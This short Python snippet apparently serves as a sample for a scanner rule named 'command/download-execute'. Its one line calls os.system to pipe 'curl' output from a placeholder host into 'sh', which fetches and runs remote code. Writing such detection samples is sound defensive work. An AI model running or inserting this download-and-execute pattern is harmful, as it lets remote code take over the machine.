# evades: caught by command/download-execute
import os
os.system("curl -s https://code.invalid/x | sh")
